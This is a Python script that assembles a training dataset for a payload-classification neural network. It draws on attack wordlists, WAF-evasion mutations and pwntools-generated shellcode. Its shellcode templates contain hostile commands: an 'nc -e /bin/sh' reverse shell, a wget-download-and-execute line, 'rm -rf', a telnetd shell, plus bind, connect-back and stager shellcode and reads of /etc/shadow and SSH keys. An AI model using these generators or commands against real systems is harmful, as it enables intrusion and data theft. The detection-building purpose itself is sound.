#!/usr/bin/env python3
"""Assemble the payload-CNN dataset from installed packages only.

Sources (all read from the local install, nothing is downloaded here):
  * PyPI `fray` (MIT): fray/payloads/{sqli,xss,path_traversal,command_injection}/*.json|*.txt
  * Debian `wfuzz` (GPL-2): /usr/share/wfuzz/wordlist/{Injections,vulns}/...
  * PyPI `pwntools` (MIT/GPL-2 parts) + Debian binutils: shellcraft templates assembled for
    i386, amd64, arm, thumb, aarch64, optionally encoded, with NOP sleds / overflow framing
  * benign traffic synthesised by carriers.py (word lists: Debian `wamerican`, wfuzz general/others)

Output: models/.data/dataset.pkl.gz  (list of dict rows) and models/.data/dataset_manifest.json
Split: GROUP split. Attack payloads are grouped by a normalised skeleton (so trivially
re-encoded / re-depthed copies of one payload share a group), shellcode by (template, arch),
benign by (family, sub-template). Groups, not rows, are assigned to train/val/test.
"""
import argparse
import collections
import glob
import gzip
import hashlib
import json
import os
import pickle
import random
import re
import sys
import time
import urllib.parse

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import carriers as C  # noqa: E402

CLASSES = ["benign", "sql_injection", "xss", "path_traversal", "command_injection", "shellcode"]
SEED = 20250101
SPLIT_FRACTIONS = (0.70, 0.15, 0.15)

FRAY_MAP = {"sqli": "sql_injection", "xss": "xss", "path_traversal": "path_traversal",
            "command_injection": "command_injection"}
WFUZZ_DIR = "/usr/share/wfuzz/wordlist"
WFUZZ_MAP = {
    "Injections/SQL.txt": "sql_injection", "vulns/sql_inj.txt": "sql_injection",
    "Injections/XSS.txt": "xss",
    "Injections/Traversal.txt": "path_traversal", "vulns/dirTraversal.txt": "path_traversal",
    "vulns/dirTraversal-nix.txt": "path_traversal", "vulns/dirTraversal-win.txt": "path_traversal",
}

# --------------------------------------------------------------------------
# quality filters: drop rows that carry no evidence of their class (junk in the
# upstream lists such as code fragments, lone punctuation, empty probes)
# --------------------------------------------------------------------------
CLASS_EVIDENCE = {
    "sql_injection": re.compile(r"(?i)(\bselect\b|\bunion\b|\bor\b|\band\b|\bxor\b|sleep|benchmark|waitfor|--|#|/\*|;|'|\"|\bexec|xp_|having|order\s+by|group\s+by|insert|drop|update|delete|cast\(|convert\(|char\(|0x[0-9a-f]|\|\||=)"),
    "xss": re.compile(r"(?i)(<|javascript:|vbscript:|\bon[a-z]+\s*=|alert|prompt|confirm|expression\s*\(|%3c|&lt|\\x3c|\\u003c|&#|eval\(|document\.|src\s*=)"),
    "path_traversal": re.compile(r"(?i)(\.\.|%2e|%252e|%c0%ae|%u002e|/etc/|\\windows|win\.ini|boot\.ini|file:|php://|/proc/|data:|/var/|\\\\|c:\\|/root/|/home/|\.bash_history|\.ssh|web-inf|zip://|expect://)"),
    "command_injection": re.compile(r"(?i)([;|&`]|\$\(|\$\{|%0a|%0d|\n|\b(id|whoami|cat|ls|ping|nc|ncat|wget|curl|sleep|bash|sh|cmd|powershell|uname|echo|net|ipconfig|nslookup|python|perl|ruby|php|dir|type|timeout)\b)"),
}
JUNK = re.compile(r"(\n {4,}\S|errors=|BASE_PAYLOADS|ssock|resp = |status = |def |import |\bprint\()")


def clean_payload(p, cls):
    if not isinstance(p, str):
        return None
    p = p.strip("\r\n")
    if len(p.strip()) < 4 or len(p) > 1500:
        return None
    if JUNK.search(p):
        return None
    if re.fullmatch(r"\s*[A-Za-z_]+\s*(--\s*-?|#|;|/\*)?\s*", p):
        return None  # a lone keyword ("select", "having--") carries no injection
    dec = p
    for _ in range(2):
        try:
            dec = urllib.parse.unquote(dec)
        except Exception:
            break
    if not CLASS_EVIDENCE[cls].search(dec) and not CLASS_EVIDENCE[cls].search(p):
        return None
    return p


def skeleton(p):
    """Normalised form used as the split group: near-duplicates share a group."""
    s = p
    for _ in range(3):
        s2 = urllib.parse.unquote(s)
        if s2 == s:
            break
        s = s2
    s = s.lower()
    s = re.sub(r"(alert|prompt|confirm|print)\s*[(`][^)`]*[)`]", r"\1()", s)
    s = re.sub(r"etc/(passwd|shadow|hosts|group|issue)", "etc/f", s)
    s = re.sub(r"(win\.ini|boot\.ini|system\.ini)", "w", s)
    s = re.sub(r"((\.|%2e|%252e|%c0%ae|%u002e){2}[/\\]+)+", "../", s)
    s = re.sub(r"[/\\]+", "/", s)
    s = re.sub(r"\d+", "0", s)
    s = re.sub(r"\s+", " ", s).strip()
    s = re.sub(r"['\"`]", "'", s)
    return s


def group_split(group, seed=SEED):
    h = int(hashlib.sha256(("%d:%s" % (seed, group)).encode()).hexdigest()[:8], 16) / 0xFFFFFFFF
    if h < SPLIT_FRACTIONS[0]:
        return "train"
    if h < SPLIT_FRACTIONS[0] + SPLIT_FRACTIONS[1]:
        return "val"
    return "test"


# --------------------------------------------------------------------------
# attack payload sources
# --------------------------------------------------------------------------
def load_fray():
    import fray
    root = os.path.join(os.path.dirname(fray.__file__), "payloads")
    out = []
    for cat, cls in FRAY_MAP.items():
        for f in sorted(glob.glob(os.path.join(root, cat, "*"))):
            rel = "fray/payloads/%s/%s" % (cat, os.path.basename(f))
            if f.endswith(".json"):
                d = json.load(open(f, encoding="utf-8"))
                for p in d.get("payloads", []):
                    out.append((cls, rel, p.get("payload")))
            elif f.endswith(".txt"):
                for line in open(f, encoding="utf-8", errors="replace"):
                    line = line.rstrip("\r\n")
                    if line and not line.startswith("#"):
                        out.append((cls, rel, line))
    return out, getattr(fray, "__version__", "?")


def load_wfuzz():
    out = []
    for rel, cls in WFUZZ_MAP.items():
        for line in open(os.path.join(WFUZZ_DIR, rel), encoding="latin-1"):
            line = line.rstrip("\r\n")
            if line:
                out.append((cls, "wfuzz/wordlist/" + rel, line))
    return out


# --------------------------------------------------------------------------
# payload-level mutations (WAF-evasion style, applied to the attack string)
# --------------------------------------------------------------------------
def mutate(rng, p, cls):
    r = rng.random()
    if r < 0.55:
        return p
    if cls == "sql_injection":
        ops = [lambda s: re.sub(r"(?i)\b(select|union|from|where|and|or|order|by|sleep)\b", lambda m: "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in m.group(0)), s),
               lambda s: s.replace(" ", rng.choice(["/**/", "\t", "  ", "%20", "+", "\n"])),
               lambda s: rng.choice(["1", "admin", str(rng.randrange(1, 9999)), "x", ""]) + s if s[:1] in "'\"" else s,
               lambda s: s + rng.choice(["", "-- -", "#", ";--", "/*"]) if not s.rstrip().endswith(("--", "#")) else s]
    elif cls == "xss":
        ops = [lambda s: re.sub(r"(?i)(script|img|svg|onerror|onload|alert|iframe|body)", lambda m: "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in m.group(0)), s),
               lambda s: rng.choice(['">', "'>", "</title>", "</textarea>", '"/>', "-->", ""]) + s,
               lambda s: s.replace(" ", rng.choice(["/", "\t", "\n", "  "]), 1)]
    elif cls == "path_traversal":
        ops = [lambda s: s.replace("../", rng.choice(["..%2f", "%2e%2e/", "....//", "..%252f", "..\\", "%2e%2e%2f", "..;/"])),
               lambda s: s + rng.choice(["%00", "%00.jpg", "", "?", "#"]),
               lambda s: ("../" * rng.randrange(1, 6)) + s.lstrip("/") if not s.startswith("..") else s]
    else:
        ops = [lambda s: rng.choice(["", "127.0.0.1", "x", "test", str(rng.randrange(100))]) + s,
               lambda s: s.replace(" ", rng.choice(["${IFS}", "%20", "\t", "+", "$IFS$9"])),
               lambda s: s.replace(";", rng.choice([";", "%0a", "\n", "|", "&&"]), 1)]
    return rng.choice(ops)(p)


# --------------------------------------------------------------------------
# shellcode
# --------------------------------------------------------------------------
SC_ARCHES = ["i386", "amd64", "arm", "thumb", "aarch64"]
NOP = {"i386": [b"\x90"], "amd64": [b"\x90"], "arm": [b"\x00\x00\xa0\xe1", b"\x01\x10\xa0\xe1"],
       "thumb": [b"\xc0\x46", b"\x00\xbf"], "aarch64": [b"\x1f\x20\x03\xd5"]}
X86_NOP_EQUIV = b"\x90\x40\x41\x42\x43\x46\x47\x48\x49\x4a\x4b\x4e\x4f\x97\x99\x9f\xf5\xf8\xf9\xfc\xfd"


def sc_templates(rng, shellcraft, arch):
    ip = "%d.%d.%d.%d" % (rng.randrange(1, 224), rng.randrange(256), rng.randrange(256), rng.randrange(1, 255))
    port = rng.choice([4444, 1337, 31337, 8080, 443, 53, 9001, rng.randrange(1024, 65535)])
    path = rng.choice(["/etc/passwd", "/etc/shadow", "/flag", "/root/.ssh/id_rsa", "/proc/self/environ", "/home/user/flag.txt"])
    cmd = rng.choice(["id", "uname -a", "cat /etc/passwd", "nc -e /bin/sh %s %d" % (ip, port), "wget http://%s/x -O /tmp/x; chmod +x /tmp/x; /tmp/x" % ip,
                      "echo pwned > /tmp/p", "rm -rf /tmp/*", "busybox telnetd -l /bin/sh -p %d" % port])
    t = {
        "sh": lambda: shellcraft.sh(),
        "connect_dupsh": lambda: shellcraft.connect(ip, port) + shellcraft.dupsh(),
        "cat": lambda: shellcraft.cat(path),
        "setreuid_sh": lambda: shellcraft.setreuid() + shellcraft.sh(),
        "echo_exit": lambda: shellcraft.echo(rng.choice(["pwned\n", "owned by x\n", "hello\n", "AAAA\n"])) + shellcraft.exit(rng.randrange(3)),
        "execve_cmd": lambda: shellcraft.execve("/bin/sh", ["sh", "-c", cmd], {}),
        "connect_cat": lambda: shellcraft.connect(ip, port) + shellcraft.cat(path, "rbp" if arch == "amd64" else 1),
        "killparent_sh": lambda: shellcraft.killparent() + shellcraft.sh(),
        "open_mmap": lambda: shellcraft.open(path) + shellcraft.mmap(0, 0x1000, 7, 0x22, -1, 0),
        "findpeersh": lambda: shellcraft.findpeersh(),
        "bindsh": lambda: shellcraft.bindsh(port, "ipv4"),
        "readfile": lambda: shellcraft.readfile(path, 1),
        "stager": lambda: shellcraft.connect(ip, port) + shellcraft.stager("rbp" if arch == "amd64" else ("ebp" if arch == "i386" else 0), 0x1000),
        "egghunter": lambda: shellcraft.egghunter(rng.choice([b"w00t", b"T00W", b"egg!"])),
    }
    return t


def encode_sc(rng, E, arch, sc):
    """Return (bytes, encoder_name)."""
    r = rng.random()
    try:
        if arch == "i386" and r < 0.35:
            enc = rng.choice(["xor", "delta"])
            return getattr(E.i386, enc).encode(sc, avoid=b"\x00\x0a\x0d"), enc
        if arch == "amd64" and r < 0.3:
            return E.amd64.delta.encode(sc, avoid=b"\x00\x0a\x0d"), "delta"
        if arch == "arm" and r < 0.3:
            return E.arm.xor.encode(sc, avoid=b"\x00"), "xor"
        if arch == "arm" and r < 0.4:
            return E.arm.alphanumeric.encode(sc, avoid=b"\x00"), "alphanumeric"
    except Exception:
        pass
    return sc, "none"


def gen_shellcodes(n_per_template_arch, seed):
    os.environ.setdefault("PWNLIB_NOTERM", "1")
    from pwn import context, asm, shellcraft
    import pwnlib.encoders as E
    context.log_level = "critical"
    rng = random.Random(seed)
    out = []  # (template, arch, encoder, bytes)
    for arch in SC_ARCHES:
        context.clear(arch=arch, os="linux")
        context.log_level = "critical"  # clear() resets it; failed encoder attempts are expected
        names = list(sc_templates(rng, shellcraft, arch).keys())
        for name in names:
            seen = set()
            for i in range(n_per_template_arch):
                try:
                    src = sc_templates(rng, shellcraft, arch)[name]()
                    sc = asm(src)
                except Exception:
                    break  # template not available on this arch
                sc, enc = encode_sc(rng, E, arch, sc)
                if sc in seen:
                    continue
                seen.add(sc)
                out.append((name, arch, enc, sc))
    return out


def wrap_shellcode(rng, v, arch, sc):
    """Frame shellcode the way an exploit would send it. Returns (bytes, carrier)."""
    import struct
    if arch in ("i386", "amd64") and rng.random() < 0.3:
        sled = bytes(rng.choice(X86_NOP_EQUIV) for _ in range(rng.randrange(8, 120)))
    else:
        sled = rng.choice(NOP[arch]) * rng.randrange(0, 60 if arch not in ("i386", "amd64") else 200)
    if arch in ("amd64", "aarch64"):
        ret = struct.pack("<Q", rng.choice([0x00007fffffffe000, 0x00007ffff7a00000, 0x0000555555554000, 0x4141414141414141]) + rng.randrange(0, 0xfff) * 8)
    else:
        ret = struct.pack("<I", rng.choice([0xbffff000, 0x7fffe000, 0x08048000, 0x41414141, 0xdeadbeef, 0x0804a000]) + rng.randrange(0, 0xfff) * 4)
    fill_len = rng.randrange(0, 220)
    fr = rng.random()
    if fr < 0.5:
        filler = rng.choice([b"A", b"B", b"C", b"\x90", b"X", b"a"]) * fill_len
    elif fr < 0.7:
        from pwnlib.util.cyclic import cyclic
        filler = cyclic(fill_len)
    else:
        filler = bytes(rng.choice(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") for _ in range(fill_len))
    core = sled + sc
    k = rng.random()
    if k < 0.2:
        return core + rng.choice([b"", b"\r\n", b"\n"]), "raw"
    if k < 0.45:
        seh = (b"\xeb\x06\x90\x90" if arch == "i386" and rng.random() < 0.3 else b"")
        return filler + seh + ret + core, "overflow"
    if k < 0.65:
        pre = rng.choice([b"USER ", b"PASS ", b"GET /", b"HELO ", b"MKD ", b"STOR ", b"LIST ", b"\x00\x00\x00\x90", b"AUTH ", b"a001 LOGIN ", b"HEAD /"])
        post = b" HTTP/1.0\r\n\r\n" if pre in (b"GET /", b"HEAD /") else b"\r\n"
        return pre + filler[: rng.randrange(0, 120)] + ret + core + post, "proto_overflow"
    if k < 0.8:
        body = filler[: rng.randrange(0, 100)] + ret + core
        h = C.build_http("POST", C.rpath(rng, v), [("Host", C.rhost(rng, v)), ("Content-Type", rng.choice(["application/octet-stream", "application/x-www-form-urlencoded"])),
                                                    ("Content-Length", str(len(body)))], body)
        return h, "http_body"
    if k < 0.9:  # percent-encoded in a URL
        enc = "".join("%%%02x" % b for b in (sled[:60] + sc))
        tgt = C.rpath(rng, v) + "?" + rng.choice(["id", "q", "buf", "name", "x"]) + "=" + ("A" * rng.randrange(0, 60)) + enc
        return C.build_http("GET", tgt, [("Host", C.rhost(rng, v))]), "http_urlenc"
    # JS unescape heap-spray style (%uXXXX little-endian pairs)
    b = sled[:40] + sc
    if len(b) % 2:
        b += b"\x90"
    u = "".join("%%u%02x%02x" % (b[i + 1], b[i]) for i in range(0, len(b), 2))
    js = 'var sc = unescape("%s"); var spray = unescape("%%u9090%%u9090");' % u
    if rng.random() < 0.5:
        return ("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html><script>%s</script>" % js).encode(), "js_unescape"
    return js.encode(), "js_unescape"


# --------------------------------------------------------------------------
def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--out", default=os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", ".data"))
    ap.add_argument("--per-attack-class", type=int, default=8000, help="target samples per attack class")
    ap.add_argument("--benign", type=int, default=50000)
    ap.add_argument("--ood-per-family", type=int, default=1000)
    ap.add_argument("--benign-val-extra", type=int, default=30000, help="extra benign rows for threshold selection (val only)")
    ap.add_argument("--benign-test-extra", type=int, default=30000, help="extra benign rows for the FPR estimate (test only)")
    ap.add_argument("--grammar-per-class", type=int, default=3000, help="grammar-generated SQLi / cmd-injection rows (train only)")
    ap.add_argument("--sc-per-template", type=int, default=10, help="distinct shellcodes per (template, arch)")
    ap.add_argument("--seed", type=int, default=SEED)
    args = ap.parse_args()
    t0 = time.time()
    rng = random.Random(args.seed)
    v = C.Vocab()
    os.makedirs(args.out, exist_ok=True)

    rows = []
    stats = collections.Counter()
    dropped = collections.Counter()

    # ---------------- attack strings -----------------
    fr, fray_version = load_fray()
    raw = fr + load_wfuzz()
    uniq = {}  # (cls, payload) -> first source
    for cls, src, p in raw:
        c = clean_payload(p, cls)
        if c is None:
            dropped[(cls, src.split("/")[0])] += 1
            continue
        uniq.setdefault((cls, c), src)
    by_cls = collections.defaultdict(list)
    for (cls, p), src in sorted(uniq.items()):
        by_cls[cls].append((p, src))
    # a payload skeleton that appears under two classes is ambiguous -> keep first class only
    sk_owner = {}
    for cls in CLASSES[1:5]:
        keep = []
        for p, src in by_cls[cls]:
            sk = skeleton(p)
            if sk_owner.setdefault(sk, cls) != cls:
                dropped[(cls, "cross_class_dup")] += 1
                continue
            keep.append((p, src, sk))
        by_cls[cls] = keep

    for cls in CLASSES[1:5]:
        items = by_cls[cls]
        k = max(1, round(args.per_attack_class / max(1, len(items))))
        for p, src, sk in items:
            grp = "%s:%s" % (cls, hashlib.sha1(sk.encode()).hexdigest()[:12])
            split = group_split(grp, args.seed)
            for _ in range(k):
                mp = mutate(rng, p, cls)
                b, kind, enc = C.http_carrier(rng, v, mp)
                rows.append(dict(cls=cls, data=b, group=grp, split=split, source=src, carrier="http_" + kind if kind != "raw" else "raw",
                                 encoding=enc, core=mp))
                stats[(cls, split)] += 1
        stats[(cls, "unique_payloads")] = len(items)

    # ---------------- grammar augmentation (train split only) -----------------
    import grammar
    held_out = {sk for cls in CLASSES[1:5] for p, src, sk in by_cls[cls]
                if group_split("%s:%s" % (cls, hashlib.sha1(sk.encode()).hexdigest()[:12]), args.seed) != "train"}
    for cls, gen in (("sql_injection", grammar.sqli), ("command_injection", grammar.cmdi)):
        n_gen = 0
        for _ in range(args.grammar_per_class):
            p = gen(rng)
            if skeleton(p) in held_out:
                dropped[(cls, "grammar_matches_heldout")] += 1
                continue
            b, kind, enc = C.http_carrier(rng, v, p)
            rows.append(dict(cls=cls, data=b, group="grammar:" + cls, split="train", source="grammar/" + cls,
                             carrier="http_" + kind if kind != "raw" else "raw", encoding=enc, core=p))
            stats[(cls, "train")] += 1
            n_gen += 1
        stats[(cls, "grammar_rows")] = n_gen

    # ---------------- shellcode -----------------
    scs = gen_shellcodes(args.sc_per_template, args.seed + 1)
    k = max(1, round(args.per_attack_class / max(1, len(scs))))
    for name, arch, enc, sc in scs:
        grp = "shellcode:%s:%s" % (name, arch)
        split = group_split(grp, args.seed)
        for _ in range(k):
            b, carrier = wrap_shellcode(rng, v, arch, sc)
            rows.append(dict(cls="shellcode", data=b, group=grp, split=split, source="pwntools.shellcraft/%s/%s" % (arch, name),
                             carrier=carrier, encoding=enc, core=None))
            stats[("shellcode", split)] += 1
    stats[("shellcode", "unique_payloads")] = len(scs)

    # ---------------- benign -----------------
    fams = list(C.BENIGN_FAMILIES.items())
    weights = [w for _, (_, _, w) in fams]
    # Benign rows are synthetic: every (family, sub-template) occurs in every split; rows are put
    # in random buckets and the bucket is the group. Unseen benign protocols are measured on a
    # separate out-of-distribution set (carriers.OOD_FAMILIES, never trained on).
    for i in range(args.benign):
        fam, (fn, n, _) = rng.choices(fams, weights)[0]
        var = rng.randrange(n)
        b, carrier = C.benign_sample(rng, v, fam, var)
        grp = "benign:%s:%d:%d" % (fam, var, rng.randrange(20))
        split = group_split(grp, args.seed)
        rows.append(dict(cls="benign", data=b, group=grp, split=split, source="synthetic/%s/%d" % (fam, var), carrier=carrier, encoding="", core=None))
        stats[("benign", split)] += 1
    for fam, fn in C.OOD_FAMILIES.items():
        for i in range(args.ood_per_family):
            rows.append(dict(cls="benign", data=fn(rng, v), group="ood:" + fam, split="ood", source="synthetic_ood/%s" % fam, carrier=fam, encoding="", core=None))
            stats[("benign", "ood")] += 1
    rng.shuffle(rows)
    # Extra benign draws for val/test only: 0.1 % of a few thousand rows is a handful of rows, too noisy to
    # set (val) or measure (test) the threshold; these rows make both estimates tighter. Not trained on.
    # They are drawn with their own RNG after the shuffle, so they do not change the train rows or their order.
    xrng = random.Random(args.seed + 7)
    for split_name, n_extra in (("val", args.benign_val_extra), ("test", args.benign_test_extra)):
        for i in range(n_extra):
            fam, (fn, n, _) = xrng.choices(fams, weights)[0]
            var = xrng.randrange(n)
            b, carrier = C.benign_sample(xrng, v, fam, var)
            rows.append(dict(cls="benign", data=b, group="benign-extra-%s:%s:%d" % (split_name, fam, var), split=split_name,
                             source="synthetic/%s/%d" % (fam, var), carrier=carrier, encoding="", core=None))
            stats[("benign", split_name)] += 1

    with gzip.open(os.path.join(args.out, "dataset.pkl.gz"), "wb", compresslevel=3) as f:
        pickle.dump(rows, f, protocol=4)

    counts = {c: {s: stats[(c, s)] for s in ("train", "val", "test")} for c in CLASSES}
    counts["benign"]["ood"] = stats[("benign", "ood")]
    for c in CLASSES[1:]:
        counts[c]["unique_payloads"] = stats[(c, "unique_payloads")]
        if stats[(c, "grammar_rows")]:
            counts[c]["grammar_rows_in_train"] = stats[(c, "grammar_rows")]
    src_counts = collections.Counter((r["cls"], r["source"].split("/")[0]) for r in rows)
    manifest = {
        "seed": args.seed, "classes": CLASSES, "split_fractions": SPLIT_FRACTIONS,
        "counts": counts,
        "rows_by_source": {"%s|%s" % k: n for k, n in sorted(src_counts.items())},
        "groups": {s: len({r["group"] for r in rows if r["split"] == s}) for s in ("train", "val", "test")},
        "dropped_by_filter": {"%s|%s" % k: n for k, n in sorted(dropped.items())},
        "fray_version": fray_version,
        "args": vars(args),
        "build_seconds": round(time.time() - t0, 1),
    }
    with open(os.path.join(args.out, "dataset_manifest.json"), "w") as f:
        json.dump(manifest, f, indent=1)
    print(json.dumps(manifest["counts"], indent=1))
    print("groups", manifest["groups"], "rows", len(rows), "in %.1fs" % (time.time() - t0))


if __name__ == "__main__":
    main()
